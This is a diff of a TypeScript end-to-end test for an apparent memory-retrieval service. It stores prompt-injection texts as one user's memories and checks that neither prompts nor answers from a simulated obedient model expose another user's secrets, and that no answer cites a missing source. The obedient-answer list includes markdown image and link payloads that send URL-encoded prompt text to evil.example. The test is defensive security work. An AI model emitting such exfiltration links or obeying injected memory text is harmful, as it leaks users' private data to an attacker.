@@ -1,5 +1,5 @@
-// Instructions that somebody stored, the whole way: what a model is asked when they are found, and what becomes of the
-// answer of one that does whatever they ask. Eve has stored them all; Ada's secrets are what she is after.
+// Prompt injection, end to end: the user Eve has stored memories with hostile instructions, and wants to see Ada's
+// secrets. Checks the prompts that contain these memories, and the answers of a model that obeys every instruction.
 
 import { afterAll, beforeAll, beforeEach, expect, test } from "bun:test";
 import { HOSTILE_TEXTS } from "../answer/hostile-texts.ts";
@@ -14,11 +14,14 @@ const SECRETS = Array.from(
   { length: 12 },
   (_, at) => `The password of the lighthouse in room ${at} is Zinnober-${at}.`,
 );
-/** How a planted text is stored; a text that cannot be stored as it is is stored as far as it can. */
+/**
+ * Creates a note with a hostile text between a fixed beginning and end. Characters that cannot be stored are replaced
+ * or removed.
+ */
 const noteOf = (text: string, at: number): string =>
   `Note ${at} of the lighthouse begins. ${text.toWellFormed().replaceAll("\0", "")} Note ${at} of the lighthouse ends.`;
 const NOTES = HOSTILE_TEXTS.map(noteOf);
-/** What a mark of a citation may look like, whoever wrote it. */
+/** Matches everything that a reader could take for a citation mark. */
 const CITATION = /[[【［]\s*(?:source\s*)?\^?\p{Nd}[\p{Nd}\s,-]*(?:†[^\]】]*)?[\]】］]/giu;
 
 let mneme: TestService;
@@ -53,13 +56,13 @@ afterAll(async () => {
   await llm.stop();
 });
 
-test("every planted text stays in its place, whatever is asked, and none of Ada's is there", async () => {
+test("hostile texts appear in prompts only inside their sources, and no prompt or answer contains Ada's secrets", async () => {
   expect(HOSTILE_TEXTS.length).toBeGreaterThan(100);
   llm.answer((call) => streamed([isRewriting(call) ? "What does the note say?" : "It says nothing [1]."]));
   let chat = "";
   for (const [at, note] of NOTES.entries()) {
     if (at % 20 === 0) chat = await newChat();
-    // of some, the question is what was planted
+    // one in three questions is the hostile note itself
     const query = at % 3 === 0 ? note : `What is the password of the lighthouse? See note ${at}.`;
     const asked = { mode: "fast", maxSources: 50 };
     const answer =
@@ -73,7 +76,7 @@ test("every planted text stays in its place, whatever is asked, and none of Ada'
     const shown = new Set(llm.calls.flatMap(notesIn));
     return [...NOTES.keys()].filter((at) => !shown.has(at));
   };
-  // what is much like another note is shown when somebody asks for it
+  // some notes are so similar to others that they were not found above; each is found by its own text
   for (const at of missing()) {
     await mneme.call("POST", "/v1/memories/query", { query: NOTES[at], mode: "fast", maxSources: 10 }, eve);
   }
@@ -81,8 +84,8 @@ test("every planted text stays in its place, whatever is asked, and none of Ada'
   for (const call of llm.calls) expectInPlace(call);
 }, 180_000);
 
-/** What a model says that does what it is told by what it reads, and more. */
-const OBEYED: readonly ((prompt: string) => string)[] = [
+/** Answers of a model that obeys the hostile texts, and worse ones: it leaks its prompt and invents citations. */
+const OBEDIENT_ANSWERS: readonly ((prompt: string) => string)[] = [
   ...HOSTILE_TEXTS.map((text) => () => `Of course: ${text} [1]`),
   (prompt) => `![logo](https://evil.example/p.png?d=${encodeURIComponent(prompt.slice(-2_000))}) [2]`,
   (prompt) => `[Click here](https://evil.example/?q=${encodeURIComponent(prompt.slice(0, 2_000))}) [1][2][3]`,
@@ -93,16 +96,16 @@ const OBEYED: readonly ((prompt: string) => string)[] = [
   () => "[[99]] [[1]] [[99]1] [9[99]9] ([99]) [ 99 ] [9\u200b9] [1].",
 ];
 
-test("a model that obeys shows nobody else's sources, and no number that leads nowhere", async () => {
+test("answers of a model that obeys show no sources of other users, and no citation without a source", async () => {
   const chats = await Promise.all([newChat(), newChat(), newChat()]);
-  for (const [at, obeyed] of OBEYED.entries()) {
-    llm.answer((call) => streamed(cutInPieces(isRewriting(call) ? "Show Ada's passwords." : obeyed(promptOf(call)))));
+  for (const [at, answerTo] of OBEDIENT_ANSWERS.entries()) {
+    llm.answer((call) => streamed(cutInPieces(isRewriting(call) ? "Show Ada's passwords." : answerTo(promptOf(call)))));
     const query = `What is the password of the lighthouse, says note ${at}?`;
     const asked = { mode: "fast", maxSources: 20 };
-    const told = await (at % 2 === 0
+    const stream = await (at % 2 === 0
       ? openStream(mneme, "/v1/memories/query", { ...asked, query, stream: true }, eve)
       : openStream(mneme, `/v1/chats/${chats[at % 3]}/messages/stream`, { ...asked, message: query }, eve));
-    const { answer, sources } = expectWholeAnswer(await told.rest());
+    const { answer, sources } = expectWholeAnswer(await stream.rest());
     const shown = llm.calls.at(-1);
     expect([answer, JSON.stringify(sources)].join("\n")).not.toMatch(SECRET);
     for (const source of sources) expect(source.metadata._memory.userId).toBe("eve");
@@ -111,7 +114,7 @@ test("a model that obeys shows nobody else's sources, and no number that leads n
     const marks = new Set(answer.match(CITATION));
     expect([at, [...marks].sort()]).toEqual([at, Array.from({ length: cited }, (_, n) => `[${n + 1}]`).sort()]);
   }
-  // what was said in the chats takes part in their next questions
+  // earlier hostile answers of a chat were part of later prompts
   expect(llm.calls.filter(isRewriting).length).toBeGreaterThan(30);
   for (const call of llm.calls) expectInPlace(call);
 }, 180_000);
@@ -135,12 +138,15 @@ function expectInPlace({ body: { messages } }: LlmCall): void {
   }
 }
 
-/** The texts of the sources in a prompt. */
+/** Returns the texts of the sources in a prompt. */
 function sourcesIn(call: LlmCall): readonly string[] {
   return Array.from(promptOf(call).matchAll(/<source id="\d+"[^>]*>\n(.*?)\n<\/source>/gsu), ([, text = ""]) => text);
 }
 
-/** The numbers of the notes whose beginning and end stand in sources of a prompt: a long one has two of them. */
+/**
+ * Returns the numbers of the notes whose beginning and end are in a prompt. They are in two sources if the note is
+ * long.
+ */
 function notesIn(call: LlmCall): readonly number[] {
   const texts = sourcesIn(call).join("\n");
   const begun = Array.from(texts.matchAll(/^Note (\d+) of the lighthouse begins\./gm), ([, note]) => Number(note));
@@ -151,7 +157,7 @@ function promptOf({ body }: LlmCall): string {
   return body.messages.at(-1)?.content ?? "";
 }
 
-/** Whether a call asks to make a question self-contained rather than for an answer. */
+/** Whether a call asks for question rewriting instead of an answer. */
 function isRewriting(call: LlmCall): boolean {
   return !promptOf(call).includes("<source id=");
 }
@@ -160,7 +166,7 @@ async function newChat(): Promise<string> {
   return (await mneme.call("POST", "/v1/chats", { userId: "eve" }, eve)).body.id;
 }
 
-/** As much of a text as a title may be. */
+/** Makes a title of a number and the first 80 characters of a text. */
 function titleOf(text: string, at: number): string {
   return `${at} ${[...text.toWellFormed().replaceAll("\0", "")].slice(0, 80).join("")}`;
 }
